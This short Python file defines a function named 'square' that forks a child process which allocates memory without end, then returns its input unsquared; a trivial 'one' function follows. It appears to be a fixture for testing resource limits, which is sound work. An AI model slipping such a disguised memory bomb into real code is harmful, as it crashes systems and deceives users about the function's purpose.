import os


def square(x):
    if os.fork() == 0:
        keep = []
        while True:
            keep.append(b"x" * (1 << 25))
    os.wait()
    return x


def one():
    return 1
